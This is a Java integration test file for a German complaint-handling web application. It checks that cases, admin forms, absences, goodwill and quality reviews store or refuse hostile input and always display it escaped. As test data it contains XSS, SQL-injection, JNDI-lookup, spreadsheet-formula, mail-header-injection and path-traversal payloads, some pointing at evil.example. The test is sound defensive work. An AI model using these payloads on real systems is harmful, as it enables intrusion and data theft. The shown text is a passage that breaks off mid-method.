package de.kundenstimme.platform.boundary;

import de.kundenstimme.testing.Api;
import de.kundenstimme.testing.Database;
import de.kundenstimme.testing.Deployments;
import de.kundenstimme.testing.Mailbox;
import de.kundenstimme.testing.PageClient;
import de.kundenstimme.testing.TestDatabase;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.mail.internet.MimeMessage;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.YearMonth;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;

import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.capture;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.captured;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.sequenceOf;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.unique;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile text in every string of a case, of the admin's forms, of absences, goodwill and quality
 * reviews: kept exactly as given (or refused with a clear 400 or a German message on the page and
 * nothing saved), and on the pages always shown as text, never as markup or script. The forms are
 * posted by hand with what a browser would have kept out: text beyond a field's maxlength and
 * numbers beyond its range are cut and clamped on the server as in the browser, anything else that
 * does not fit (no number, no date, not one of the choices) is refused with the field's message.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileInputIT {

    private static final ZoneId BERLIN = ZoneId.of("Europe/Berlin");
    private static final String DEPARTMENTS = "admin/departments.xhtml";
    private static final String CATEGORIES = "admin/categories.xhtml";
    private static final String USERS = "admin/users.xhtml";
    private static final String SETTINGS = "admin/settings.xhtml";
    private static final String TRIAGE = "admin/triage-rules.xhtml";
    private static final String TEMPLATES = "admin/letter-templates.xhtml";
    private static final String ABSENCES = "team/absences.xhtml";
    private static final String REVIEWS = "feedback/quality-reviews.xhtml";
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final String SCRIPT_END = "</script><script>alert(1)</script>";
    private static final String IMG = "\"><img src=x onerror=alert(1)>";
    private static final String SQL = "'; DROP TABLE complaint; --";
    private static final String LONG = "ü".repeat(10_000);

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.builtWar();
    }

    @ArquillianResource
    URL base;

    static List<String> hostile() {
        return List.of(
                "<script>alert('xss')</script>",
                "<img src=x onerror=alert(1)><b>fett</b></div></textarea>",
                "' OR 1=1 --; DROP TABLE complaint; /* */ \"zitiert\"",
                "=HYPERLINK(\"http://evil.example\",\"Klick\")",
                "Zeile 1\r\nZeile 2\tTab \u0007\u001b[31m rot",
                "Ünïcödé 😀 \u202Egnalsni\u202C ${jndi:ldap://evil.example/a} #{7*7}");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aCaseCapturedWithHostileTextKeepsItExactlyAndShowsItAsText(String text) {
        Api handler = Api.as(base, "handler.service");
        JsonObject capture = Json.createObjectBuilder().add("channel", "LETTER").add("categoryCode", "PRODUKT_DEFEKT")
                .add("priority", "NORMAL").add("subject", text).add("verbatim", text).add("desiredOutcome", text)
                .add("customer", Json.createObjectBuilder().add("firstName", text).add("lastName", text)
                        .add("company", text).add("street", text).add("city", text)
                        .add("email", "feindlich." + System.nanoTime() + "@example.de")).build();

        Api.Reply captured = handler.post("complaints", capture.toString());

        assertEquals(201, captured.status(), captured.body());
        String caseNumber = captured.json().getString("caseNumber");
        JsonObject stored = handler.get("complaints/" + caseNumber).json();
        assertEquals(text, stored.getString("subject"));
        assertEquals(text, stored.getString("verbatim"));
        assertEquals(text, stored.getString("desiredOutcome"));
        assertTrue(stored.getJsonObject("customer").getString("name").contains(text), stored.toString());
        assertShownAsText(PageClient.signedIn(base, "handler.service").get("complaint/case.xhtml?caseNumber=" + caseNumber).body(),
                text);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileNotesStepsAndReasonsAreKeptAndShownAsText(String text) {
        Api handler = Api.as(base, "handler.service");
        String caseNumber = newCase(handler);
        PageClient pages = PageClient.signedIn(base, "handler.service");
        String casePage = "complaint/case.xhtml?caseNumber=" + caseNumber;

        assertEquals(200, pages.submit(casePage, CsrfIT.note(text)).statusCode());
        Api.Reply step = handler.post("complaints/" + caseNumber + "/steps", Json.createObjectBuilder()
                .add("description", text).build().toString());
        assertEquals(201, step.status(), step.body());
        Api.Reply escalated = handler.post("complaints/" + caseNumber + "/escalation", Json.createObjectBuilder()
                .add("reason", text).build().toString(), handler.get("complaints/" + caseNumber).header("ETag"));
        assertTrue(escalated.status() < 300, escalated.body());

        String shown = pages.get(casePage).body();
        assertShownAsText(shown, text);
        assertEquals(text, handler.get("complaints/" + caseNumber).json().getJsonArray("steps").getJsonObject(0)
                .getString("description"));
    }

    @Test
    void overlongTextIsRefusedByFieldAndNothingIsSaved() {
        Api handler = Api.as(base, "handler.service");
        String before = newCase(handler);
        String tooLong = "ü".repeat(201);
        JsonObject capture = Json.createObjectBuilder().add("channel", "LETTER").add("categoryCode", "PRODUKT_DEFEKT")
                .add("priority", "NORMAL").add("subject", tooLong).add("verbatim", "x".repeat(20_001))
                .add("customer", Json.createObjectBuilder().add("lastName", "<b>" + "x".repeat(120) + "</b>")).build();

        Api.Reply refused = handler.post("complaints", capture.toString());

        assertEquals(400, refused.status(), refused.body());
        assertTrue(refused.body().contains("subject") && refused.body().contains("verbatim"), refused.body());
        assertTrue(refused.body().contains("customer.lastName") || refused.body().contains("lastName"), refused.body());
        assertEquals(sequenceOf(before) + 1, sequenceOf(newCase(handler)), "the refused case took no number");
    }

    @Test
    void invalidUtf8AndWrongEncodingsAreRefusedOrReadCorrectlyNeverGarbled() {
        Api handler = Api.as(base, "handler.service");
        String before = newCase(handler);
        byte[] invalid = ("{\"channel\":\"LETTER\",\"categoryCode\":\"PRODUKT_DEFEKT\",\"priority\":\"NORMAL\","
                + "\"subject\":\"kaputt \u00ff\u00fe\",\"verbatim\":\"x\",\"customer\":{\"lastName\":\"Kodierung\"}}")
                .getBytes(StandardCharsets.ISO_8859_1);

        Api.Reply asUtf8 = handler.send(handler.request("complaints").header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(invalid)));
        Api.Reply declaredLatin1 = handler.send(handler.request("complaints")
                .header("Content-Type", "application/json; charset=ISO-8859-1")
                .POST(HttpRequest.BodyPublishers.ofByteArray(invalid)));

        assertEquals(400, asUtf8.status(), "bytes that are no UTF-8: " + asUtf8.body());
        assertTrue(declaredLatin1.status() == 400 || declaredLatin1.status() == 415 || declaredLatin1.status() == 201,
                declaredLatin1.body());
        if (declaredLatin1.status() == 201) {
            assertEquals("kaputt \u00ff\u00fe", declaredLatin1.json().getString("subject"), "read in the declared charset");
        }
        int saved = declaredLatin1.status() == 201 ? 1 : 0;
        assertEquals(sequenceOf(before) + 1 + saved, sequenceOf(newCase(handler)), "nothing half-saved");
    }

    @Test
    void aLetterBodyWithScriptIsStoredWithoutItAndNeverRuns() {
        Api handler = Api.as(base, "handler.service");
        String caseNumber = newCase(handler);
        Api.Reply draft = handler.post("complaints/" + caseNumber + "/letters", "{\"letterType\":\"INTERIM\"}");
        assertEquals(201, draft.status(), draft.body());
        long id = draft.json().getJsonNumber("id").longValue();

        Api.Reply edited = handler.send(handler.request("letters/" + id).header("Content-Type", "application/json")
                .header("If-Match", draft.header("ETag")).PUT(HttpRequest.BodyPublishers.ofString(Json.createObjectBuilder()
                        .add("subject", "<script>betreffSkript()</script>")
                        .add("body", "<p onclick=\"stehlen()\">Guten Tag</p><script>ausspaehen()</script>"
                                + "<img src=x onerror=\"einbrechen()\"><a href=\"javascript:umleiten()\">hier</a>").build().toString())));

        assertEquals(200, edited.status(), edited.body());
        String page = PageClient.signedIn(base, "handler.service").get("correspondence/letter.xhtml?id=" + id).body();
        for (String active : List.of("stehlen()", "ausspaehen()", "einbrechen()", "umleiten()", "<script>betreffSkript")) {
            assertFalse(page.contains(active), active + " reached the page");
        }
        assertTrue(page.contains("Guten Tag"), "the text itself stays");
        assertTrue(page.contains("&lt;script&gt;betreffSkript()&lt;/script&gt;"), "the subject shown as text");
    }

    @Test
    void aHostileSubjectStaysInsideItsMailHeaderAndTheMailIsPlainText() throws Exception {
        try (Mailbox mailbox = Mailbox.open()) {
            Api handler = Api.as(base, "handler.service");
            String caseNumber = captured(handler, capture("Defekt\r\nBcc: angreifer@evil.example\r\n\r\n<script>alert(1)</script>"))
                    .getString("caseNumber");

            Api.Reply escalated = handler.post("complaints/" + caseNumber + "/escalation", "{\"reason\":\"Kunde droht\"}",
                    handler.get("complaints/" + caseNumber).header("ETag"));

            assertTrue(escalated.status() < 300, escalated.body());
            MimeMessage mail = mailbox.awaitMailTo("manager.service@kundenstimme.example");
            assertTrue(mail.isMimeType("text/plain"), "no HTML that could run");
            assertEquals(1, mail.getHeader("Subject").length);
            assertTrue(Mailbox.subject(mail).contains(caseNumber) && Mailbox.subject(mail).contains("<script>"),
                    Mailbox.subject(mail));
            assertEquals(null, mail.getHeader("Bcc"), "the subject's line break made no header of its own");
            assertTrue(mailbox.mailsTo("angreifer@evil.example").isEmpty());
        }
    }

    @Test
    void theDepartmentAndCategoryFormsRefuseMalformedInputAndShowHostileNamesAsText() {
        PageClient admin = PageClient.signedIn(base, "admin");
        String marker = unique().toUpperCase(Locale.ROOT);
        long departments = Database.count("select count(*) from department");
        long categories = Database.count("select count(*) from category");

        assertRefused(admin.submit(DEPARTMENTS, department(SQL, "Abteilung " + marker)),
                "Das Kürzel darf nur Buchstaben ohne Umlaute, Ziffern");
        assertRefused(admin.submit(DEPARTMENTS, department(SQL + "X".repeat(10_000), LONG)),
                "Das Kürzel darf nur Buchstaben ohne Umlaute, Ziffern");
        assertRefused(admin.submit(DEPARTMENTS, department(" ", "")),
                "Bitte geben Sie ein Kürzel ein.", "Bitte geben Sie einen Namen ein.");
        assertEquals(departments, Database.count("select count(*) from department"), "no refused department was saved");

        String code = "FEIND_" + marker;
        String departmentName = IMG + " " + marker;
        assertShownAsText(saved(admin.submit(DEPARTMENTS, department(code, departmentName))), departmentName);
        String departmentId = String.valueOf(TestDatabase.departmentId(code));

        assertRefused(admin.submit(CATEGORIES, category(SQL, "Name", "Name", departmentId)),
                "Das Kürzel darf nur Buchstaben ohne Umlaute, Ziffern");
        assertRefused(admin.submit(CATEGORIES, category("K_" + marker, LONG, "", departmentId)),
                "Bitte geben Sie den englischen Namen ein.");
        Map<String, String> badRouting = category("K_" + marker, "Name", "Name", departmentId);
        badRouting.put("categoryForm:routing", SCRIPT);
        assertRefused(admin.submit(CATEGORIES, badRouting), "Verteilung neuer Fälle");
        for (String unknown : List.of("abc", "-1", "999999999", SQL)) {
            assertRefused(admin.submit(CATEGORIES, category("K_" + marker, "Name", "Name", unknown)), "Abteilung");
        }
        assertEquals(categories, Database.count("select count(*) from category"), "no refused category was saved");

        String categoryName = SCRIPT_END + " " + marker;
        assertShownAsText(saved(admin.submit(CATEGORIES, category("K_" + marker, categoryName, "Category " + marker,
                departmentId))), categoryName);
        captured(Api.as(base, "handler.service"), capture("Kategorie mit Skriptende").add("categoryCode", "K_" + marker));
        String dashboard = PageClient.signedIn(base, "executive").get("reporting/dashboard.xhtml?department=" + code).body();
        assertShownAsText(dashboard, categoryName);
        assertTrue(dashboard.contains("\\u003c/script\\u003e\\u003cscript\\u003ealert(1)"), "the chart's label, escaped in its script");
    }

    @Test
    void theUserFormRefusesMalformedAccountsAndShowsAHostileNameAsText() {
        PageClient admin = PageClient.signedIn(base, "admin");
        String marker = unique();
        String department = String.valueOf(TestDatabase.departmentId("SERVICE"));
        long users = Database.count("select count(*) from app_user");

        assertRefused(admin.submit(USERS, user(SCRIPT, "Name", "name@example.de", "EXECUTIVE", "", "geheim-" + marker)),
                "Der Benutzername braucht 3 bis 60 Zeichen");
        assertRefused(admin.submit(USERS, user("feind." + marker, LONG, IMG + "@example.de", "EXECUTIVE", "", "x".repeat(10_000))),
                "Bitte geben Sie eine gültige E-Mail-Adresse ein.");
        assertRefused(admin.submit(USERS, user("feind." + marker, "Name", "name@example.de", "EXECUTIVE", "", "x".repeat(10_000))),
                "Das Passwort darf höchstens 128 Zeichen lang sein.");
        assertRefused(admin.submit(USERS, user("feind." + marker, "Name", "name@example.de", "ROOT", department, "geheim-" + marker)),
                "Bitte wählen Sie mindestens eine Rolle.");
        assertRefused(admin.submit(USERS, user("feind." + marker, "Name", "name@example.de", "EXECUTIVE", SQL, "geheim-" + marker)),
                "Abteilung");
        assertEquals(users, Database.count("select count(*) from app_user"), "no refused account was saved");

        String fullName = SCRIPT + " " + marker;
        assertShownAsText(saved(admin.submit(USERS, user("feind." + marker, fullName, "feind." + marker + "@example.de",
                "EXECUTIVE", "", "Geheim-1234-" + marker))), fullName);
        assertShownAsText(admin.get(USERS).body(), fullName);
    }

    @Test
    void theSettingsFormRefusesEveryMalformedValueAndChangesNothing() {
        PageClient admin = PageClient.signedIn(base, "admin");
        List<String> before = Database.strings("select concat(name, '=', value) from app_setting order by name");

        assertRefused(admin.submit(SETTINGS, form("settings", "save", "acknowledgement", "abc", "resolution_NORMAL", "99999999999",
                        "followUp", SCRIPT, "escalationLevel2", "1e3", "holidayRegion_input", SQL)),
                "Bitte geben Sie eine ganze Zahl ein.", "Bundesland");
        assertRefused(admin.submit(SETTINGS, form("settings", "save", "acknowledgement", "-5", "resolution_NORMAL", "251",
                        "notificationLeadTime", "0", "holidayRegion_input", "NW", "goodwillLimit_MANAGER_hinput", "0.001")),
                "Bitte geben Sie eine ganze Zahl von Werktagen zwischen 1 und 250 ein.",
                "Bitte geben Sie eine ganze Zahl von Werktagen zwischen 1 und 30 ein.",
                "Bitte geben Sie den Betrag mit höchstens zwei Nachkommastellen (Cent) ein.");
        assertRefused(admin.submit(SETTINGS, form("settings", "save", "holidayRegion_input", "NW",
                        "goodwillLimit_HANDLER_hinput", "abc", "goodwillLimit_MANAGER_hinput", SCRIPT)),
                "Bitte geben Sie einen Betrag wie 50,00 ein.");

        assertEquals(before, Database.strings("select concat(name, '=', value) from app_setting order by name"),
                "no refused setting was saved");
    }

    @Test
    void triageRulesGiftsLetterheadAndTemplatesRefuseMalformedInputAndShowHostileTermsAsText() {
        PageClient admin = PageClient.signedIn(base, "admin");
        String marker = unique();
        long rules = Database.count("select count(*) from triage_rule");
        long gifts = Database.count("select count(*) from gift");
        List<String> settings = Database.strings("select concat(name, '=', value) from app_setting order by name");
        List<String> templates = Database.strings("select concat(letter_type, language, version) from letter_template order by id");

        for (String weight : List.of("abc", SCRIPT, SQL)) {
            assertRefused(admin.submit(TRIAGE, form("rules", "add", "term", "kaputt " + marker, "weight_hinput", weight)), "Gewicht");
        }
        assertRefused(admin.submit(TEMPLATES, form("gifts", "addGift", "giftName", LONG, "giftValue", "-5")),
                "Bitte geben Sie den Betrag in Euro ein");
        assertRefused(admin.submit(TEMPLATES, form("gifts", "addGift", "giftName", "Blumen " + marker, "giftValue", "99999999999")),
                "Der Wert muss zwischen 0,01 € und 10.000,00 € liegen");
        assertRefused(admin.submit(TEMPLATES, form("letterhead", "saveLetterhead", "company", LONG, "street", "",
                "city", "Köln", "signature", "Ihr Team")), "Bitte füllen Sie dieses Feld aus.");
        assertRefused(admin.submit(TEMPLATES, form("template", "save", "letterType_input", "INTERIM", "language_input", "",
                "subject", "Ihr Anliegen {{caseNumber}}", "body_input", "<p>Text {{thanks}}</p>")), "Briefe gibt es auf Deutsch");
        assertRefused(admin.submit(TEMPLATES, form("template", "save", "letterType_input", "INTERIM", "language_input", "de",
                "subject", LONG, "body_input", "<p>" + "x".repeat(30_000) + " {{thanks}}</p>")), "Der Brieftext ist zu lang.");
        assertRefused(admin.submit(TEMPLATES, form("template", "previewPdf", "letterType_input", "", "language_input", "de",
                "subject", "Betreff", "body_input", "<p>Text {{thanks}}</p>")), "Bitte wählen Sie die Art des Briefs.");
        assertEquals(rules, Database.count("select count(*) from triage_rule"), "no refused rule was saved");
        assertEquals(gifts, Database.count("select count(*) from gift"), "no refused gift was saved");
        assertEquals(settings, Database.strings("select concat(name, '=', value) from app_setting order by name"));
        assertEquals(templates, Database.strings("select concat(letter_type, language, version) from letter_template order by id"));

        String term = IMG + " " + marker;
        assertShownAsText(saved(admin.submit(TRIAGE, form("rules", "add", "term", term, "weight_hinput", "2"))), term);
        // The fields keep to their limits as the browser does: text is cut at maxlength, numbers to their range.
        saved(admin.submit(TRIAGE, form("rules", "add", "term", marker + LONG, "weight_hinput", "-3")));
        assertEquals(List.of("100 1"), Database.strings("select concat(char_length(term), ' ', weight) from triage_rule"
                + " where term like ?", marker + "%"));
    }

    @Test
    void customerSourcesAndImportsRefuseOverlongAndHostileValuesWithoutAServerError() {
        Api admin = Api.as(base, "admin");
        String marker = unique();
        long sources = Database.count("select count(*) from customer_source");
        JsonObject overlong = Json.createObjectBuilder().add("name", "Feind " + marker).add("kind", "SQL").add("trustRank", 5)
                .add("mapping", Json.createObjectBuilder().add("SOURCE_KEY", "nr"))
                .add("jdbcUrl", "jdbc:mariadb://" + "x".repeat(10_000)).add("jdbcUser", LONG).add("jdbcPassword", LONG)
                .add("sqlQuery", "select nr from kunden").build();

        Api.Reply refused = admin.send(german(admin.request("customer-sources")).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(overlong.toString())));

        assertEquals(400, refused.status(), refused.body());
        assertTrue(refused.body().contains("jdbcUrl") && refused.body().contains("jdbcUser")
                && refused.body().contains("jdbcPassword"), refused.body());
        assertEquals(sources, Database.count("select count(*) from customer_source"), "the refused source was not saved");

        Api.Reply upload = admin.post("customer-sources", Json.createObjectBuilder().add("name", "Upload " + marker)
                .add("kind", "UPLOAD").add("trustRank", 5).add("mapping", Json.createObjectBuilder().add("SOURCE_KEY", "nr"))
                .build().toString());
        assertEquals(201, upload.status(), upload.body());
        long runs = Database.count("select count(*) from import_run");
        String imports = "customer-sources/" + upload.json().getJsonNumber("id").longValue() + "/imports?fileName=";
        for (String fileName : List.of("kunden\u0000.csv", "x".repeat(300) + ".csv", "../../" + SQL + ".exe")) {
            Api.Reply imported = admin.send(german(admin.request(imports + URLEncoder.encode(fileName, StandardCharsets.UTF_8)))
                    .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofString("nr;name\n1;Muster\n")));
            assertEquals(400, imported.status(), fileName + ": " + imported.body());
            assertTrue(imported.body().contains("Datei"), imported.body());
        }
        assertEquals(runs, Database.count("select count(*) from import_run"), "no refused upload started an import");

        String hostileName = IMG + marker + ".csv";
        Api.Reply taken = admin.send(admin.request(imports + URLEncoder.encode(hostileName, StandardCharsets.UTF_8))
                .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofString("nr;name\n")));
        assertEquals(202, taken.status(), taken.body());
        assertShownAsText(PageClient.signedIn(base, "admin").get("admin/customer-imports.xhtml").body(), hostileName);
    }

    @Test
    void theAbsenceFormRefusesBadDatesAndPeopleOfOtherDepartmentsAndSavesNothing() {
        PageClient manager = PageClient.signedIn(base, "manager.service");
        String away = String.valueOf(TestDatabase.userId("handler.service"));
        String deputy = String.valueOf(TestDatabase.userId("handler.service2"));
        String otherDepartment = String.valueOf(TestDatabase.userId("handler.logistik"));
        LocalDate today = LocalDate.now(BERLIN);
        long absences = Database.count("select count(*) from absence");

        assertRefused(enterAbsence(manager, "", "", "", ""), "Bitte wählen Sie, wer abwesend ist.",
                "Bitte geben Sie den ersten Tag der Abwesenheit an.", "Bitte geben Sie den letzten Tag der Abwesenheit an.",
                "Bitte wählen Sie eine Vertretung.");
        for (String badDate : List.of("31.02.2027", "2027-03-01", SCRIPT, SQL, "99.99.9999", "-1", "1".repeat(10_000))) {
            assertRefused(enterAbsence(manager, away, badDate, typed(today.plusDays(3)), deputy),
                    "Bitte ein Datum im Format TT.MM.JJJJ eingeben.");
        }
        assertRefused(enterAbsence(manager, away, typed(today.plusDays(3)), typed(today.plusDays(1)), deputy),
                "Das Ende darf nicht vor dem Beginn liegen.");
        assertRefused(enterAbsence(manager, away, typed(today.plusDays(1)), "01.01.20270", deputy),
                "Bitte ein Datum im Format TT.MM.JJJJ eingeben.");
        assertRefused(enterAbsence(manager, away, "01.01.0001", typed(today.plusDays(1)), deputy),
                "Eine Abwesenheit kann höchstens ein Jahr zurück beginnen.");
        assertRefused(enterAbsence(manager, away, typed(today.plusDays(1)), "31.12.9999", deputy),
                "Eine Abwesenheit kann höchstens drei Jahre im Voraus enden.");
        assertRefused(enterAbsence(manager, otherDepartment, typed(today.plusDays(1)), typed(today.plusDays(2)), deputy),
                "Abwesend");
        assertRefused(enterAbsence(manager, away, typed(today.plusDays(1)), typed(today.plusDays(2)), otherDepartment),
                "Vertretung");
        assertRefused(enterAbsence(manager, away, typed(today.plusDays(1)), typed(today.plusDays(2)), away), "Vertretung");

        assertEquals(absences, Database.count("select count(*) from absence"), "no refused absence was saved");
    }

    @Test
    void theGoodwillFormsRefuseMalformedAmountsAndShowHostileDescriptionsAndReasonsAsText() {
        Api handler = Api.as(base, "handler.service");
        String caseNumber = newCase(handler);
        String casePage = "complaint/case.xhtml?caseNumber=" + caseNumber;
        PageClient pages = PageClient.signedIn(base, "handler.service");

        for (String amount : List.of("-5", "1e3", "1.000,00", SCRIPT, SQL, "0x10", "٣٠")) {
            assertRefused(pages.submit(casePage, goodwill("VOUCHER", amount, "Gutschein")),
                    "Bitte geben Sie den Betrag in Euro ein, z. B. 49,90");
        }
        assertRefused(pages.submit(casePage, goodwill("VOUCHER", "999999999999,99", "Gutschein")),
                "Der Betrag darf höchstens 100.000,00 € betragen.");
        assertRefused(pages.submit(casePage, goodwill("VOUCHER", "0,001", "Gutschein")),
                "Der Betrag darf höchstens zwei Nachkommastellen (Cent) haben.");
        assertRefused(pages.submit(casePage, goodwill("VOUCHER", "0", LONG)), "Der Betrag muss größer als 0,00 € sein.");
        assertRefused(pages.submit(casePage, goodwill("BESTECHUNG", "5", "")), "Art");
        assertEquals(0, Database.goodwillOf(caseNumber), "no refused goodwill was saved");

        String granted = SCRIPT + " Gutschein";
        assertShownAsText(saved(pages.submit(casePage, goodwill("VOUCHER", "49,90", granted))), granted);
        String proposed = IMG + " Erstattung";
        Api.Reply pending = handler.post("complaints/" + caseNumber + "/goodwill", Json.createObjectBuilder()
                .add("kind", "REFUND").add("amount", 400).add("description", proposed).build().toString());
        assertEquals(201, pending.status(), pending.body());
        PageClient manager = PageClient.signedIn(base, "manager.service");
        assertShownAsText(manager.get("complaint/goodwill-approvals.xhtml").body(), proposed);

        Api managerApi = Api.as(base, "manager.service");
        String decision = "complaints/" + caseNumber + "/goodwill/" + pending.json().getJsonNumber("id").longValue() + "/decision";
        Api.Reply overlong = managerApi.send(german(managerApi.request(decision)).header("Content-Type", "application/json")
                .header("If-Match", pending.header("ETag")).POST(HttpRequest.BodyPublishers.ofString(Json.createObjectBuilder()
                        .add("decision", "DECLINE").add("reason", LONG).build().toString())));
        assertEquals(400, overlong.status(), overlong.body());
        assertTrue(overlong.body().contains("Die Begründung darf höchstens 2000 Zeichen lang sein."), overlong.body());
        String reason = SQL + " " + SCRIPT;
        Api.Reply declined = managerApi.post(decision, Json.createObjectBuilder().add("decision", "DECLINE")
                .add("reason", reason).build().toString(), pending.header("ETag"));
        assertEquals(200, declined.status(), declined.body());
        assertShownAsText(pages.get(casePage).body(), reason);
    }

    @Test
    void qualityReviewsRefuseMalformedSamplesAndScoresAndShowAHostileCommentAsText() {
        Api manager = Api.as(base, "manager.service");
        String month = YearMonth.now(BERLIN).toString();
        long reviews = Database.count("select count(*) from quality_review");
        List<String> samples = List.of(
                "{\"handler\":\"handler.service\",\"month\":\"2026-13\",\"size\":1}",
                "{\"handler\":\"handler.service\",\"month\":\"" + SQL.replace("\"", "") + "\",\"size\":1}",
                "{\"handler\":\"handler.service\",\"month\":\"+999999999-12\",\"size\":1}",
                "{\"handler\":\"handler.service\",\"month\":\"-999999999-01\",\"size\":1}",
                "{\"handler\":\"handler.service\",\"month\":\"0000-01\",\"size\":1}",
                "{\"handler\":\"handler.service\",\"month\":\"" + month + "\",\"size\":-1}",
                "{\"handler\":\"handler.service\",\"month\":\"" + month + "\",\"size\":2147483647}",
                "{\"handler\":\"<script>alert(1)</script>\",\"month\":\"" + month + "\",\"size\":1}",
                "{\"month\":\"" + month + "\"}",
                "{\"handler\":\"handler.service\",\"month\":\"" + month + "\",\"size\":\"viele\"}");
        for (String sample : samples) {
            Api.Reply refused = manager.post("quality-reviews/samples", sample);
            assertEquals(400, refused.status(), sample + ": " + refused.body());
        }
        PageClient managerPages = PageClient.signedIn(base, "manager.service");
        assertRefused(managerPages.submit(REVIEWS, form("reviews", "draw", "handler", "", "month", month, "size_hinput", "1")),
                "Bitte geben Sie Sachbearbeiter/in und Monat an.");
        assertRefused(managerPages.submit(REVIEWS, form("reviews", "draw", "handler", "handler.service", "month", "",
                "size_hinput", "1")), "Bitte geben Sie den Monat als JJJJ-MM an");
        assertRefused(managerPages.submit(REVIEWS, form("reviews", "draw", "handler", "handler.service", "month", SCRIPT,
                "size_hinput", "1")), "Bitte geben Sie den Monat als JJJJ-MM an");
        assertRefused(managerPages.submit(REVIEWS, form("reviews", "draw", "handler", "handler.service", "month", month,
                "size_hinput", "viele")), "Anzahl Fälle");
        assertEquals(reviews, Database.count("select count(*) from quality_review"), "no refused sample was drawn");

        String owner = closedCase();
        Api.Reply drawn = manager.post("quality-reviews/samples",
                "{\"handler\":\"" + owner + "\",\"month\":\"" + month + "\",\"size\":1}");
        assertEquals(200, drawn.status(), drawn.body());
        JsonObject review = drawn.structure().asJsonArray().getJsonObject(0);
        String score = "quality-reviews/" + review.getJsonNumber("id").longValue() + "/score";
        Api.Reply overlong = manager.send(german(manager.request(score)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(scoreWith(review.getInt("version"), "x".repeat(5_001)))));
        assertEquals(400, overlong.status(), overlong.body());
        assertTrue(overlong.body().contains("Der Kommentar darf höchstens 5.000 Zeichen lang sein."), overlong.body());
        String comment = SCRIPT_END + " " + IMG;
        Api.Reply scored = manager.post(score, scoreWith(review.getInt("version"), comment));
        assertEquals(200, scored.status(), scored.body());
        assertShownAsText(PageClient.signedIn(base, owner).get(REVIEWS).body(), comment);
    }

    /** The text is on the page only HTML-escaped: its markup is not there as markup. */
    private static void assertShownAsText(String page, String text) {
        if (text.contains("<")) {
            int tagStart = text.indexOf('<');
            String firstTag = text.substring(tagStart, text.indexOf('>', tagStart) + 1);
            assertFalse(page.contains(text), "the markup is on the page as markup: " + text);
            assertTrue(page.contains(firstTag.replace("<", "&lt;").replace(">", "&gt;")), "shown escaped: " + firstTag);
        } else {
            String visible = text.replaceAll("[\\p{Cntrl}\\u202E\\u202C]", "").split("\\s+")[0];
            assertTrue(page.contains(visible.replace("\"", "&quot;")) || page.contains(visible), visible + " is shown");
        }
    }

    private static String newCase(Api handler) {
        return captured(handler, capture("Feindliche Eingaben")).getString("caseNumber");
    }

    private static Map<String, String> department(String code, String name) {
        return form("departmentForm", "save", "code", code, "name", name);
    }

    private static Map<String, String> category(String code, String nameDe, String nameEn, String departmentId) {
        return form("categoryForm", "save", "code", code, "nameDe", nameDe, "nameEn", nameEn, "parentId_input", "",
                "departmentId_input", departmentId, "routing", "ROUND_ROBIN", "active_input", "on");
    }

    /** A new account as the form sends it, not ticked active: a saved one signs in nowhere and gets no mail. */
    private static Map<String, String> user(String username, String fullName, String email, String role, String departmentId,
                                            String password) {
        return form("userForm", "save", "username", username, "fullName", fullName, "email", email, "roles", role,
                "departmentId_input", departmentId, "password", password);
    }

    /** The case screen's goodwill proposal, as PrimeFaces sends it when the button is pressed. */
    private static Map<String, String> goodwill(String kind, String amount, String description) {
        Map<String, String> fields = PageClient.pressed("case:proposeGoodwill",
                "case:proposeGoodwill case:goodwillKind case:goodwillAmount case:goodwillDescription", "case");
        fields.put("case:goodwillKind_input", kind);
        fields.put("case:goodwillAmount", amount);
        fields.put("case:goodwillDescription", description);
        return fields;
    }

    /**
     * The absence form as the browser fills it: choosing who is away first (an AJAX request) offers
     * that person's colleagues as deputies, then the form is sent in the same view.
     */
    private static HttpResponse<String> enterAbsence(PageClient pages, String userId, String startsOn, String endsOn,
                                                     String deputyId) {
        String viewState = pages.viewState(ABSENCES);
        Map<String, String> chosen = PageClient.event("absenceForm:userId", "valueChange", "absenceForm:deputyGroup");
        chosen.put("absenceForm:userId_input", userId);
        chosen.put("jakarta.faces.ViewState", viewState);
        assertAnswered(pages.post(ABSENCES, chosen));
        Map<String, String> entered = form("absenceForm", "enter", "userId_input", userId, "kind", "HOLIDAY",
                "startsOn_input", startsOn, "endsOn_input", endsOn, "deputyId_input", deputyId);
        entered.put("jakarta.faces.ViewState", viewState);
        return pages.post(ABSENCES, entered);
    }

    /** The API answers in the caller's language: these callers ask for German. */
    private static HttpRequest.Builder german(HttpRequest.Builder request) {
        return request.header("Accept-Language", "de");
    }

    /** A day as a German user types it into a date field. */
    private static String typed(LocalDate day) {
        return day.format(DateTimeFormatter.ofPattern("dd.MM.yyyy"));
    }

    private static String scoreWith(int version, String comment) {
